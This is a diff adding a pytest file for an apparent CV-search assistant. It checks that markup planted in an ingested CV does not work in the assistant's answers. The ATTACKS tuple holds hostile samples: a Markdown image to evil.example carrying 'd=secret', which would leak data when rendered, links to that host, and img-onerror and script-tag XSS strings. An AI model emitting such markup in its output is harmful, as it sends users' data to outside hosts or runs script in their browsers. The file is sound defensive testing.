@@ -1,0 +1,36 @@
+"""Nothing of a document works in an answer: no link, no image, no HTML, whoever reads the Markdown."""
+
+from __future__ import annotations
+
+import pytest
+from cvs import cv
+from fakes import FixedChooser
+
+from assistant.assistant import Assistant
+from assistant.draft import inert
+from retrieval.library import Library
+
+ATTACKS = (
+    "![x](https://evil.example/a.png?d=secret) Built services in Python.",
+    "[Click here](https://evil.example) Built services in Python.",
+    "[a][ref] Built services in Python. [ref]: https://evil.example",
+    "<img src=x onerror=alert(1)> Built services in Python.",
+    "<script>alert(1)</script> Built services in Python.",
+)
+
+
+@pytest.mark.parametrize("bullet", ATTACKS)
+@pytest.mark.parametrize(
+    "question", ["Who knows Python?", "Tell me about Mira Testova", "Does Mira Testova know Python?"]
+)
+def test_markup_of_a_cv_does_not_work_in_the_answer(library: Library, bullet: str, question: str) -> None:
+    library.ingest_bytes("1.txt", cv(bullet=bullet))
+    answer = Assistant(library, FixedChooser(None)).answer(question)  # type: ignore[arg-type]
+    assert "Python" in answer.text or "Mira" in answer.text
+    for working in ("](", "<", "![", "]: http"):
+        assert working not in answer.text
+
+
+def test_our_own_marks_stay() -> None:
+    text = "**Mira**: “Python” [1][2]\n\n| # | Candidate |\n|---|---|\n| 1 | Mira [3] |"
+    assert inert(text) == text
